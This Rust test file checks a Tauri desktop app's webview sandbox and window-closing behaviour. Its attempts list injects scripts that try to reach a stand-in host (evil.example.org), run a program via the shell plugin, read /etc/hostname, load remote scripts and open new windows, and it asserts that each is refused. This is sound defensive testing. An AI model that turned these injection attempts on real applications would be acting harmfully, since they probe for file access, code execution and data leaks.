//! The shell around the interface: what a page could do that is not ours, and
//! what closing the window does.

use std::time::Duration;

use crate::support::{Computer, Person, Site};

/// What a page tries that somebody else wrote into it, each by a script that
/// ends with what came of it, and what has to come of it.
const ATTEMPTS: [(&str, &str, &str); 10] = [
    (
        "what the interface itself does, to show that the others could succeed",
        "return call('call', { request: { 'list-recipes': {} }, events: new __TAURI__.core.Channel() })",
        "done",
    ),
    (
        "another address in the browser, through us",
        "return call('open_instance', { address: 'evil.example.org' })",
        "refused: not-found",
    ),
    (
        "any address in the browser",
        "return call('plugin:opener|open_url', { url: 'https://evil.example.org' })",
        "refused: opener.open_url not allowed",
    ),
    (
        "a program of this computer",
        "return call('plugin:shell|execute', { program: 'true' })",
        "refused: shell.execute not allowed",
    ),
    (
        "a file of this computer",
        "return call('plugin:fs|read_text_file', { path: '/etc/hostname' })",
        "refused: fs.read_text_file not allowed",
    ),
    (
        "another window",
        "return call('plugin:webview|create_webview_window', { options: { label: 'x', url: 'https://evil.example.org' } })",
        "refused: webview.create_webview_window not allowed",
    ),
    (
        "something of the network",
        "fetch('https://evil.example.org/', { mode: 'no-cors' }).catch(() => {}); return forbidden()",
        "forbidden: connect-src",
    ),
    (
        "a script from elsewhere",
        "const s = document.createElement('script'); s.src = 'https://evil.example.org/x.js'; document.head.append(s); return forbidden()",
        "forbidden: script-src",
    ),
    (
        "a script inside the page",
        "const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.head.append(s); return forbidden()",
        "forbidden: script-src",
    ),
    (
        "a picture from elsewhere",
        "new Image().src = 'https://evil.example.org/x.png'; return forbidden()",
        "forbidden: img-src",
    ),
];

/// What the scripts above are written with.
const WORDS: &str = "
    const call = (name, given) => __TAURI__.core.invoke(name, given)
        .then(() => 'done', e => 'refused: ' + (e.code || e));
    const forbidden = () => new Promise(said => document.addEventListener(
        'securitypolicyviolation',
        e => said('forbidden: ' + e.effectiveDirective),
        { once: true },
    ));";

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_somebody_else_wrote_into_gets_nowhere() {
    let Some(site) = Site::bare("t-shell").await else {
        return;
    };
    let computer = Computer::in_network_of(&site.kit, &site.state).await;
    let person = Person::at(computer.open().await);
    person.is_on("page-welcome").await;

    for (what, script, wanted) in ATTEMPTS {
        let script = format!(
            "const done = arguments[arguments.length - 1]; {WORDS} (() => {{ {script} }})().then(done, e => done('broken: ' + e))"
        );
        let said = person.window.execute_async(&script, vec![]).await.unwrap();
        let said = said.as_str().unwrap_or_default().to_owned();
        assert!(said.starts_with(wanted), "{what}: {said}");
    }
    let script = "return window.ran === undefined && Object.isFrozen(Object.prototype)";
    let untouched = person.window.execute(script, vec![]).await.unwrap();
    assert_eq!(untouched.as_bool(), Some(true));

    // Going elsewhere is not an error to the page: it just does not happen.
    let script =
        "location.href = 'https://evil.example.org/'; window.open('https://evil.example.org/')";
    person.window.execute(script, vec![]).await.unwrap();
    person.presses("next").await;
    person.sees(".summary:focus, form#page-collective").await;
    let place = person.window.current_url().await.unwrap();
    assert_eq!(place.host_str(), Some("localhost"), "{place}");
    assert_eq!(person.window.windows().await.unwrap().len(), 1);

    person.leaves().await;
    site.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn long_a_window_that_is_closed_in_mid_run_hides_and_is_found_again() {
    let Some(site) = Site::bare("t-closed").await else {
        return;
    };
    let computer = Computer::in_network_of(&site.kit, &site.state).await;
    let person = Person::at(computer.open().await);
    crate::launch::until_accepted(&person, &site).await;
    person.goes_on().await;
    person.is_on("page-run").await;
    person.sees("#page-run .step-done").await;

    let screen = computer.screen();
    screen.shows(1).await;
    screen.closes_the_window();
    screen.shows(0).await;
    // The run goes on behind it.
    let later = "#page-run .step-done[id*='write-mediawiki']";
    person.sees_within(later, crate::launch::LAUNCH).await;

    // Somebody opens Allotment again and finds the one that is at work.
    let second = computer.starts_again().await;
    assert!(second.success(), "{second}");
    screen.shows(1).await;
    let next = "#page-run #next:not([disabled])";
    person.sees_within(next, crate::launch::LAUNCH).await;

    // Nothing is at work now: closing ends the program.
    screen.closes_the_window();
    screen.shows(0).await;
    let gone = async {
        while person.window.title().await.is_ok() {
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    };
    let in_time = tokio::time::timeout(Duration::from_secs(30), gone).await;
    assert!(in_time.is_ok(), "the program runs on with nothing to do");
    site.end().await;
}
